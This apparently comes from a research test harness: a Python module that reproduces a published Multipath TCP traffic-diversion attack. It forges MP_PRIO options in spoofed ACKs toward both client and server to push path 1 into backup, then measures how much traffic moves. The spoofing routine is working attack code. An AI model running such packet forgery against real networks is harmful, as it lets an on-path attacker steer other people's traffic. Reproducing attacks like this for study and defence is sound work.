"""Attack 3, MP_PRIO traffic diversion: the attacker decides which path carries the traffic.

Source: Munir et al., "Multipath TCP Traffic Diversion Attacks and Countermeasures" (IEEE ICNP 2017), and
RFC 8684 §3.3.8 (MP_PRIO carries no authentication of its own).

The attack the paper describes, and the brief asks for, sets the OTHER path's subflow to backup with the RFC 6824
form of MP_PRIO that names an address id. Linux (RFC 8684 §3.3.8) no longer accepts that form: MP_PRIO has no
address id and applies to the subflow it arrives on (`net/mptcp/options.c` ignores a 4-byte MP_PRIO); `--mode
rfc6824` sends it anyway, for the record. What an attacker on path 1 CAN do with a valid RFC 8684 MP_PRIO is set
path 1 itself to backup in both directions (forged in-window ACKs from the server to the client and from the
client to the server), which moves all traffic onto path 2: the scheduler follows the attacker's choice.

Effect measured: share of the upload (server `bytes_received`) and of the download (server `bytes_acked`) carried
by path 1 before vs after the attack; MPTcpExtMPPrioRx.
"""

from __future__ import annotations

import time

from mptcrypt.attacks.common import ACK, mptcp_opt, spoof_to_client, spoof_to_server
from mptcrypt.attacks.judging import decide
from mptcrypt.attacks.runner import Evidence, Verdict
from mptcrypt.wire.mptcp import MptcpOption

NUMBER = 3
TITLE = "MP_PRIO: path 1 set to backup, traffic diverted"
SOURCE = "Munir et al., ICNP 2017; RFC 8684 §3.3.8"
PATH2_IDS = (1, 2)  # the client's extra endpoint ids (RFC 6824 form only)


def attack(agent) -> dict:
    v = agent.view
    if v.cport is None:
        return {"skipped": "no connection"}
    mode = agent.args.mode or "rfc8684"
    for _ in range(2):
        if mode == "rfc6824":
            for aid in PATH2_IDS:
                opt = mptcp_opt(MptcpOption.mp_prio(True, addr_id=aid))
                agent.spoof(lambda: spoof_to_server(v, ACK, [opt]), lambda: spoof_to_client(v, ACK, [opt]),
                            "MP_PRIO backup with address id (RFC 6824)", addr_id=aid)
        else:
            opt = mptcp_opt(MptcpOption.mp_prio(True))
            agent.spoof(lambda: spoof_to_server(v, ACK, [opt]), lambda: spoof_to_client(v, ACK, [opt]),
                        "MP_PRIO backup")
        agent.pump(time.time() + 0.15)
    return {"mode": mode}


def _share(d: dict[str, int]) -> float | None:
    total = sum(d.values())
    return d.get("path1", 0) / total if total > 0 else None


def judge(ev: Evidence) -> Verdict:
    ta = ev.attack_t
    start = ev.timeline[0]["t"] if ev.timeline else None
    up_before = ev.bytes_by_path("server", "bytes_received", start, ta)
    end = ev.steady_end
    up_after = ev.bytes_by_path("server", "bytes_received", ta + 0.4 if ta else None, end)
    dn_before = ev.bytes_by_path("server", "bytes_acked", start, ta)
    dn_after = ev.bytes_by_path("server", "bytes_acked", ta + 0.4 if ta else None, end)
    shares = {k: _share(d) for k, d in (("up_before", up_before), ("up_after", up_after),
                                         ("down_before", dn_before), ("down_after", dn_after))}
    evidence = {
        "path1_share": {k: (None if s is None else round(s, 3)) for k, s in shares.items()},
        "upload_bytes_by_path": {"before": up_before, "after": up_after},
        "download_bytes_by_path": {"before": dn_before, "after": dn_after},
        "MPTcpExt_MPPrioRx": {h: ev.counter(h, "MPPrioRx") for h in ("client", "server") if ev.counter(h, "MPPrioRx")},
    }

    def moved(before, after) -> bool:
        return before is not None and after is not None and before >= 0.2 and after <= min(0.1, before / 4)

    up_moved = moved(shares["up_before"], shares["up_after"])
    dn_moved = moved(shares["down_before"], shares["down_after"])
    effective = up_moved or dn_moved
    fmt = lambda s: "n/a" if s is None else f"{s:.0%}"  # noqa: E731
    effect = (f"path 1 demoted to backup: its share of the upload {fmt(shares['up_before'])} -> "
              f"{fmt(shares['up_after'])}, of the download {fmt(shares['down_before'])} -> {fmt(shares['down_after'])}")
    no = (f"MP_PRIO dropped: path-1 share of the upload {fmt(shares['up_before'])} -> {fmt(shares['up_after'])}, "
          f"download {fmt(shares['down_before'])} -> {fmt(shares['down_after'])}")
    if not effective and (shares["up_before"] or 0) < 0.2 and (shares["down_before"] or 0) < 0.2:
        evidence["note"] = "path 1 carried too little before the attack to measure a diversion"
    return decide(ev, effective, effect, no, evidence, need_keys=False)
